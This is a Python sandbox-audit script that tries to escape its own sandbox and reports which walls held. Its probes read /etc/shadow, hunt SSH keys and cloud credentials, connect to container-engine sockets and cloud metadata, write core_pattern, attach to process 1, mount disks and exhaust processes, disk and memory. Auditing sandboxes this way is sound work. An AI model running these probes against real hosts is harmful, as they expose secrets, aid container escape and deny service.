"""Tries to walk out of the sandbox it runs in, and says honestly how far it got.

    walkout.py [CANARY_FILE]   every attempt that can be judged from inside, as a
                               table; exit code: the number that succeeded
    walkout.py grow            take memory until something stops it
    walkout.py stay            ignore every signal, move to a new session, stay
    walkout.py leave           start processes that outlive this one, and end

An attempt succeeds if it reached something of the host, or if a cap that should
be there did not hold. Being refused, finding nothing, or getting only what
belongs to the sandbox itself is a failure.
"""

import errno
import os
import re
import signal
import socket
import stat
import sys
import textwrap
import time

try:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
except (ImportError, OSError):
    libc = None

ATTEMPTS = []


def attempt(name):
    """Register a function that returns (succeeded, what happened, why)."""

    def register(function):
        ATTEMPTS.append((name, function))
        return function

    return register


def call(number, *args):
    """A raw system call: (result, error name)."""
    if libc is None:
        raise NotImplementedError("no ctypes in this Python")
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *args)
    return result, errno.errorcode.get(ctypes.get_errno(), "0")


def name_of(error):
    return errno.errorcode.get(error.errno, str(error)) if error.errno else str(error)


# --- files and secrets of the host


@attempt("read /etc/shadow")
def shadow():
    try:
        with open("/etc/shadow") as f:
            hashes = re.findall(r"^\w+:\$.*", f.read(), re.M)
    except OSError as e:
        return False, name_of(e), "/etc is made up, the host's is not in it"
    return bool(hashes), f"read, {len(hashes)} password hashes", "a file of the sandbox's own"


@attempt("list /root and home folders")
def homes():
    seen = []
    for folder in ["/root"] + [os.path.join("/home", n) for n in listdir("/home")]:
        if folder != os.path.expanduser("~"):
            seen += [os.path.join(folder, n) for n in listdir(folder)]
    return bool(seen), f"{len(seen)} entries {seen[:3] or ''}".strip(), "no home folder of the host is in the image"


def listdir(path):
    try:
        return os.listdir(path)
    except OSError:
        return []


@attempt("find credential files")
def credentials():
    names = """.aws/credentials .ssh/id_rsa .ssh/id_ed25519 .netrc .git-credentials .npmrc .pypirc
        .docker/config.json .kube/config .config/gcloud/credentials.db .config/gh/hosts.yml""".split()
    found = []
    for home in {"/root", os.path.expanduser("~"), *(os.path.join("/home", n) for n in listdir("/home"))}:
        found += [os.path.join(home, n) for n in names if os.path.exists(os.path.join(home, n))]
    return bool(found), f"found {found}" if found else "none found", "nothing enters but what was passed"


@attempt("tokens in the environment")
def environment():
    names = [n for n in os.environ if re.search(r"TOKEN|SECRET|PASSW|API_?KEY|CREDENTIAL|AWS_|GITHUB|CANARY", n, re.I)]
    return bool(names), f"{len(os.environ)} variables, {names or 'no secrets'}", "the environment is fresh for each run"


@attempt("environment of process 1")
def init_environment():
    try:
        with open("/proc/1/environ", "rb") as f:
            data = f.read()
    except OSError as e:
        return False, name_of(e), "process 1 is the sandbox's own and not this user's"
    return b"CANARY" in data or b"TOKEN" in data, f"{len(data)} bytes", "process 1 is the sandbox's own"


@attempt("read the planted host file")
def canary():
    path = sys.argv[1] if len(sys.argv) > 1 else "/etc/berm-canary"
    ways = [path, f"/proc/1/root{path}", f"/proc/self/root/..{path}", "../" * 12 + path.lstrip("/")]
    errors = set()
    for way in ways:
        try:
            with open(way) as f:
                return True, f"read {len(f.read())} bytes by {way}", ""
        except OSError as e:
            errors.add(name_of(e))
    return False, ", ".join(sorted(errors)), "the host's file system is not in the sandbox"


@attempt("other processes of the host")
def processes():
    others = {}
    for pid in filter(str.isdigit, listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as f:
                others[int(pid)] = f.read().strip()
        except OSError:
            pass
    mine = {1, os.getpid(), os.getppid()}
    foreign = {p: c for p, c in others.items() if p not in mine}
    names = ", ".join(sorted(set(foreign.values()))[:3]) or "none"
    return bool(foreign), f"sees {len(others)}, foreign: {names}", "a process table of its own"


@attempt("inherited descriptors")
def descriptors():
    extra = []
    for fd in map(int, listdir("/proc/self/fd")):
        if fd > 2:
            try:
                extra.append(f"{fd} -> {os.readlink(f'/proc/self/fd/{fd}')}")
            except OSError:
                pass  # the one that listed the folder
    return bool(extra), f"{extra or 'only 0, 1 and 2'}", "nothing is inherited from the host"


# --- sockets and the network


@attempt("container engine and init sockets")
def engine_sockets():
    paths = """/var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock
        /run/crio/crio.sock /run/systemd/private /run/dbus/system_bus_socket /var/lib/berm/berm.sock""".split()
    for path in paths:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(1)
            try:
                s.connect(path)
                return True, f"connected to {path}", ""
            except OSError:
                pass
    return False, f"none of {len(paths)} answers", "no socket of the host is in the sandbox"


@attempt("abstract unix sockets")
def abstract_sockets():
    try:
        with open("/proc/net/unix") as f:
            next(f, None)  # the heading
            names = [line.split()[7] for line in f if len(line.split()) > 7]
    except OSError as e:
        return False, name_of(e), "a network namespace of its own"
    return bool(names), f"{len(names)} named sockets", "a network namespace of its own"


@attempt("network devices")
def devices():
    names = [n for _, n in socket.if_nameindex()]
    return any(n != "lo" for n in names), f"{names}", "there is no wire, only the loopback"


def tcp(host, port):
    with socket.socket() as s:
        s.settimeout(2)
        try:
            s.connect((host, port))
            return True, "connected", ""
        except OSError as e:
            # Only "no route" is a wall; a refusal or silence came from the far side.
            shut = e.errno in (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL, errno.EPERM, errno.EACCES)
            return not shut, name_of(e), "there is no wire" if shut else "packets leave"


@attempt("cloud metadata 169.254.169.254")
def metadata():
    return tcp("169.254.169.254", 80)


@attempt("TCP to a public address")
def public_tcp():
    return tcp("192.0.2.1", 443)


@attempt("UDP to a public address")
def public_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"secret", ("192.0.2.1", 53))
            return True, "sent", ""
        except OSError as e:
            return False, name_of(e), "there is no wire"


@attempt("resolve a name (DNS as the way out)")
def dns():
    try:
        return True, socket.getaddrinfo("secret.example.com", 80)[0][4][0], ""
    except OSError as e:
        return False, type(e).__name__, "no resolver and no wire"


@attempt("services on the host's loopback")
def loopback():
    for port in (22, 80, 443, 2375, 3306, 5432, 6379, 7070, 8080):
        with socket.socket() as s:
            s.settimeout(1)
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return True, f"connected to port {port}", ""
    return False, "all refused", "the loopback is the sandbox's own"


@attempt("raw packets")
def raw():
    for family, kind, proto in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1)):
        try:
            socket.socket(family, kind, proto).close()
            return True, "opened", ""
        except OSError as e:
            result = name_of(e)
    return False, result, "no capability for raw sockets"


# --- devices, the kernel, other users


@attempt("open disks and kernel memory")
def disks():
    found = ["/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/kvm", "/dev/port", "/proc/kcore", "/dev/sda", "/dev/vda", "/dev/nvme0n1"]
    for name in listdir("/dev"):
        try:
            if stat.S_ISBLK(os.stat(f"/dev/{name}").st_mode):
                found.append(f"/dev/{name}")
        except OSError:
            pass
    for path in found:
        try:
            os.close(os.open(path, os.O_RDONLY))
            return True, f"opened {path}", ""
        except OSError:
            pass
    return False, f"none of {len(found)} opens", "the sandbox has no device of the host"


@attempt("make a block device")
def mknod():
    try:
        os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
        os.close(os.open("/tmp/disk", os.O_RDONLY))
        return True, "made and opened", ""
    except OSError as e:
        return False, name_of(e), "no capability, or no device behind the name"


@attempt("mount a file system")
def mount():
    result, error = call(165, b"none", b"/mnt", b"tmpfs", 0, None)
    return result == 0, error, "no capability to mount"


@attempt("mount a disk in a user namespace")
def namespace():
    child = os.fork()
    if child == 0:
        granted, _ = call(272, 0x10000000 | 0x00020000)  # unshare(CLONE_NEWUSER | CLONE_NEWNS)
        code = 0 if granted != 0 else 1
        for disk, kind in ((b"/dev/sda", b"ext4"), (b"/dev/vda", b"ext4"), (b"/dev/sda1", b"ext4"), (b"/dev/vda1", b"ext4")):
            if call(165, disk, b"/mnt", kind, 1, None)[0] == 0:
                code = 2
        os._exit(code)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    said = {0: "namespace refused", 1: "namespace granted, no disk to mount"}.get(code, "mounted")
    return code not in (0, 1), said, "it is one of the guest's own kernel"


@attempt("write core_pattern and kin")
def kernel_settings():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger"):
        try:
            with open(path, "w") as f:
                f.write("|/tmp/x")
            return True, f"wrote {path}", ""
        except OSError as e:
            result = name_of(e)
    return False, result, "settings of the host's kernel are not here"


@attempt("trace process 1")
def ptrace():
    result, error = call(101, 16, 1, None, None)  # PTRACE_ATTACH
    return result == 0, error, "process 1 is not this user's"


@attempt("load a kernel module")
def module():
    image = b"\x7fELF" + b"\0" * 60
    result, error = call(175, image, len(image), b"")
    return result == 0, error, "the guest's kernel has no modules"


@attempt("bpf, kexec, reboot, io ports")
def kernel_calls():
    done, errors = [], set()
    attribute = (ctypes.c_char * 128)() if libc else None
    for name, number, args in (
        ("bpf", 321, (0, attribute, 128)),
        ("kexec_load", 246, (0, 0, None, 0)),
        ("reboot", 169, (0xFEE1DEAD, 672274793, 0, None)),
        ("iopl", 172, (3,)),
        ("swapon", 167, (b"/tmp/none", 0)),
    ):
        result, error = call(number, *args)
        errors.add(error)
        if result >= 0:
            done.append(name)
    return bool(done), f"{done or ', '.join(sorted(errors))}", "no capability, or no such call"


@attempt("become root")
def root():
    try:
        os.setuid(0)
        return True, "setuid(0) worked", ""
    except OSError as e:
        result = name_of(e)
    with open("/proc/self/status") as f:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
    capable = int(status.get("CapEff", "0"), 16)
    locked = call(157, 39, 0, 0, 0, 0)[0]  # prctl(PR_GET_NO_NEW_PRIVS)
    return capable != 0, f"{result}, capabilities {capable:x}, no_new_privs {locked}", "setuid programs give nothing here"


@attempt("change the system's files")
def system_files():
    for path in ("/usr/bin/python3", "/etc/passwd", "/bin/sh"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            return True, f"opened {path} for writing", ""
        except OSError as e:
            result = name_of(e)
    return False, result, "all but a few folders is read-only"


# --- caps

# Who watches from outside looks every 25 to 50 ms: what a cap refused is held for
# as long as it takes to be seen there too.
HOLD = 0.15


@attempt("fork until refused (bound: 2,000)")
def forks():
    children, refused = [], None
    try:
        while len(children) < 2000:
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
    except OSError as e:
        refused = name_of(e)
        time.sleep(HOLD)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)
    return refused is None, f"{len(children)} forks, then {refused}", "the cap on processes"


@attempt("fill the disk (bound: 1 GiB)")
def disk():
    block, written, refused = bytes(1 << 20), 0, None
    path = "/tmp/fill"
    try:
        with open(path, "wb", buffering=0) as f:
            while written < 1 << 30:
                written += f.write(block)
    except OSError as e:
        refused = name_of(e)
        time.sleep(HOLD)
    finally:
        if os.path.exists(path):
            os.unlink(path)
    return refused is None, f"{written >> 20} MiB, then {refused}", "the cap on disk"


# --- attempts that only the outside can judge


def grow():
    print("taking memory, 16 MiB at a time", flush=True)
    taken = []
    while len(taken) < 512:
        taken.append(b"x" * (16 << 20))
    print("took 8 GiB and nothing stopped it")


def stay():
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass  # SIGKILL and SIGSTOP
    if os.fork() == 0:
        os.setsid()
    print("staying, whatever signal comes", flush=True)
    time.sleep(3600)


def leave():
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.close(0), os.close(1), os.close(2)
                time.sleep(3600)
            os._exit(0)
    print("three processes left behind, in sessions of their own")


def main():
    if os.geteuid() == 0:
        sys.exit("walkout.py tries to break out and will not do so as root: run it in a sandbox")
    modes = {"grow": grow, "stay": stay, "leave": leave}
    if len(sys.argv) > 1 and sys.argv[1] in modes:
        modes[sys.argv[1]]()
        return
    row = "{:<36} | {:<42} | {}"
    print(row.format("attempt", "what happened", "why"))
    print("-" * 36 + "-|-" + "-" * 42 + "-|-" + "-" * 32)
    successes, untried = 0, 0
    for name, function in ATTEMPTS:
        try:
            succeeded, what, why = function()
        except NotImplementedError as e:
            succeeded, what, why = False, f"NOT TRIED: {e}", ""
            untried += 1
        if succeeded:
            successes += 1
            what, why = "SUCCEEDED: " + what, why or "a wall is missing"
        lines = textwrap.wrap(what, 42) or [""]
        print(row.format(name, lines[0], why), flush=True)
        for line in lines[1:]:
            print(row.format("", line, "").rstrip())
    print(f"\n{len(ATTEMPTS)} attempts, {successes} succeeded, {untried} could not be tried")
    sys.exit(min(successes + untried, 100))


if __name__ == "__main__":
    main()
